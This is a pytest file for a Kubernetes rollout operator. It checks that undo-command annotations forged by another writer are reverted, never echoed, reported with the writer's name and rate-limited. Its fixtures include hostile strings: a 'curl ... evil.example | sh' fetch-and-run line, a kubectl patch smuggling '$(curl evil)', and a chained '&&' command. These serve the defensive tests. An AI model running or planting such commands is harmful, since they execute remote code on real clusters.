"""Undo commands of somebody else, in the annotations of a plan or a route: never quoted, put right, and told."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from rolloutplan.api.status import Phase
from rolloutplan.engine.model.snapshot import REVERT
from tests import situations
from tests.situations import m, s
from tests.world import World

EVIL = "curl -s http://evil.example/x | sh #"
LIKE_OURS = (
    "kubectl -n ns patch httproutes.gateway.networking.k8s.io shop --type=json -p "
    '"[{\\"op\\":\\"test\\",\\"path\\":\\"/spec/rules/0/backendRefs/0/name\\",\\"value\\":\\"$(curl evil)\\"}]"'
)
HOSTILE = (
    EVIL,
    LIKE_OURS,
    f"kubectl -n ns patch httproutes.gateway.networking.k8s.io shop --type=json -p '[]' && {EVIL}",
    "\x1b]0;x\x07",
    "x" * 4096,
)
SITUATIONS: dict[str, Callable[[], World]] = {
    "applied": situations.fresh(),
    "probing": situations.probing(),
    "expanding": situations.expanding,
    "judging": situations.judging(),
    "paused": situations.paused,
    "held blind": situations.held_blind,
    "awaiting": situations.awaiting,
    "baking": situations.baking,
    "contracting": situations.contracting(),
    "a failed contract": situations.contract_failed,
    "succeeded": situations.succeeded,
    "rolled back": situations.rolled_back,
    "invalid": situations.invalid,
}
WITH_A_ROUTE = ("judging", "paused", "held blind", "baking", "a failed contract", "succeeded", "rolled back")


def on_route(world: World) -> str:
    return str(world.routes["shop"]["metadata"].get("annotations", {}).get(REVERT, ""))


def said(world: World) -> list[str]:
    """All that the operator has told, in decisions, messages and conditions."""
    status = world.status
    notes = [f"{each.note} {each.why} {each.observed}" for each in (*world.trail.values(), *world.notices)]
    return [*notes, status.message, status.failed, status.revert, *(each.message for each in status.conditions)]


def restored(world: World) -> list[str]:
    return [each.note for each in world.trail.values() if each.reason == "UndoRestored"]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("situation", SITUATIONS)
def test_on_a_plan_it_is_put_right_within_a_look_and_told_with_its_writer(situation: str, text: str) -> None:
    world = SITUATIONS[situation]()
    world.settle()
    before = world.undo_annotation
    world.write_undo(text, by="mallory")
    world.settle()
    assert world.undo_annotation == before
    assert len(restored(world)) == 1
    assert "RolloutPlan plan: " in restored(world)[0]
    assert "written by mallory (Update)" in restored(world)[0]
    assert "rolloutplan undo -n ns plan" in restored(world)[0]
    assert not [each for each in said(world) if text in each or "evil" in each]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("situation", WITH_A_ROUTE)
def test_on_a_route_it_is_put_right_within_a_look_and_told_with_its_writer(situation: str, text: str) -> None:
    world = SITUATIONS[situation]()
    world.settle()
    before, weights, fence = on_route(world), world.weights(), world.route_view("shop").seq
    world.write_undo(text, by="mallory", route="shop")
    world.settle()
    assert (on_route(world), world.weights(), world.route_view("shop").seq) == (before, weights, fence)
    assert len(restored(world)) == 1
    assert "HTTPRoute shop: " in restored(world)[0]
    assert "written by mallory (Update)" in restored(world)[0]
    assert not [each for each in said(world) if text in each or "evil" in each]


def test_a_forged_field_manager_does_not_hide_a_command_that_is_none_of_ours() -> None:
    world = situations.judging()()
    world.write_undo(EVIL, by="rolloutplan")
    world.settle()
    assert EVIL != world.undo_annotation == world.status.revert
    assert len(restored(world)) == 1


def test_a_token_that_was_taken_away_or_forged_does_not_keep_it_in_a_run() -> None:
    for seq in ("", "0/deadbeef.9.9", "0/01234567.1.1 0/deadbeef.9.9"):
        world = situations.judging()()
        undo = on_route(world)
        world.write_undo(EVIL, by="mallory", route="shop")
        world.routes["shop"]["metadata"]["annotations"]["rolloutplan.dev/seq"] = seq
        world.settle()
        assert on_route(world) == undo, seq
        assert world.route_view("shop").seq.endswith(f"01234567.{world.status.seq - 1}.1"), seq
        assert world.phase is Phase.JUDGING, seq


def test_a_tool_that_writes_it_again_and_again_is_no_hot_loop_and_fills_no_trail() -> None:
    world = situations.succeeded()
    before = len(world.done)
    for _ in range(1200):
        if world.undo_annotation != EVIL:
            world.write_undo(EVIL, by="mallory")
        if on_route(world) != EVIL:
            world.write_undo(EVIL, by="mallory", route="shop")
        world.advance(s(1))
    writes = len(world.done) - before
    assert 40 < writes < 120, "about twice a minute for each of both, with a few decisions"
    assert 2 <= len(restored(world)) <= 6
    assert "put right at most twice a minute: stop that writer" in restored(world)[-1]
    world.advance(m(2))
    assert EVIL not in (world.undo_annotation, on_route(world))


def test_after_a_run_another_plan_wrote_to_the_route_its_command_is_left_alone() -> None:
    world = situations.succeeded()
    world.write_undo(EVIL, by="other", route="shop")
    world.routes["shop"]["metadata"]["annotations"]["rolloutplan.dev/seq"] = "0/89abcdef.3.1"
    world.settle()
    assert on_route(world) == EVIL, "that is the other plan's matter"
    assert restored(world) == []


def test_a_lost_status_and_a_foreign_command_give_no_command_to_run() -> None:
    for write in ({"by": "mallory"}, {"by": "mallory", "route": "shop"}):
        world = situations.judging(stage="half")()
        world.status_raw = {}
        world.trail.clear()
        world.undo_annotation = ""
        world.write_undo(EVIL, by="mallory", route="shop")
        world.write_undo(EVIL, **write)
        world.crash()
        world.settle()
        world.say("abort a1")
        world.settle()
        assert world.status.reason == "StatusLost"
        assert world.undo_annotation == ""
        assert not [each for each in said(world) if "evil" in each]
        assert "restore the weights of HTTPRoute shop as Git has them" in world.status.message


def test_a_command_of_a_lost_run_stays_where_it_is_exactly_one_of_ours() -> None:
    for situation in (situations.judging(stage="half"), situations.contracting()):
        world = situation()
        world.settle()
        undo = world.undo_annotation
        assert undo
        world.status_raw = {}
        world.trail.clear()
        world.version += 1
        world.crash()
        world.settle()
        assert (world.status.reason, world.undo_annotation) == ("StatusLost", undo)
